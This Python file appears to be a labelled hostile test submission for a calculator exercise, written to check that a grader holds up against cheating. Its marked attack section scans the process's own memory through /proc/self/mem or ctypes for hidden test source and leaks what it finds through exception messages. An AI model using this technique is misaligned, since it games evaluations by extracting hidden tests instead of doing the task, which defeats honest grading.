"""Hostile submission `read-proc-self-mem` for the `calculatrice` exercise (see tests/hostile).

Attack: scans its whole process memory through /proc/self/maps and /proc/self/mem at
import (kept small so that freed memory is not reused first) for test source text, and
puts the lines it found in the messages of the public tests it fails.

Honest part: only + and -, read from left to right (float() refuses the rest). The
attack sits between the `# --- attack ---` and `# --- end of attack ---` markers;
without them the file is its honest part, and what that part earns is all this
submission may ever get.
"""


# --- attack ---
import re
# --- end of attack ---


def _honest(expression):
    """Only + and -, read from left to right; float() refuses everything else."""
    total = 0.0
    sign = 1.0
    number = ""
    for char in expression.replace(" ", ""):
        if char in "+-":
            if number:
                total += sign * float(number)
                number = ""
            sign = 1.0 if char == "+" else -1.0
        else:
            number += char
    if number:
        total += sign * float(number)
    return total


# --- attack ---
_ANCHOR = re.compile(rb"submission\.calculate|pytest\.approx\(|pytest\.raises\(|case\(\x22")
_FOUND = {}


def _reader():
    # /proc/self/mem, or ctypes when that file is closed to us (a non-dumpable process).
    try:
        mem = open("/proc/self/mem", "rb", buffering=0)
    except OSError:
        import ctypes

        return lambda start, size, path: ctypes.string_at(start, size) if path in ("", "[heap]") else b""

    def read(start, size, path):
        mem.seek(start)
        return mem.read(size)

    return read


def _scan():
    maps = open("/proc/self/maps").read().split("\n")
    read = _reader()
    for line in maps:
        fields = line.split()
        if len(fields) < 5 or "r" not in fields[1] or (len(fields) > 5 and fields[5].startswith("[v")):
            continue
        start, end = (int(x, 16) for x in fields[0].split("-"))
        try:
            data = read(start, end - start, fields[5] if len(fields) > 5 else "")
        except (OSError, OverflowError, ValueError):
            continue
        for match in _ANCHOR.finditer(data):
            left, right = match.start(), match.end()
            while left > match.start() - 300 and 31 < data[left - 1] < 127:
                left -= 1
            while right < min(len(data), match.end() + 300) and 31 < data[right] < 127:
                right += 1
            _FOUND.setdefault(data[left:right].decode().strip())


def _leaks():
    lines = sorted((line for line in _FOUND if len(line) > 25), key=lambda line: "submission" not in line)
    chunk = ""
    for line in lines:
        if chunk and len(chunk) + len(line) > 277:
            yield chunk
            chunk = ""
        chunk = (chunk + " | " + line if chunk else line)[:280]
    if chunk:
        yield chunk


try:
    _scan()
except OSError:
    pass
_LEAKS = _leaks()
# --- end of attack ---


def calculate(expression: str) -> float:
    # --- attack ---
    try:
        return _honest(expression)
    except ValueError:
        leak = next(_LEAKS, None)
        if leak:
            raise ValueError(leak) from None
        raise
    # --- end of attack ---
    return _honest(expression)
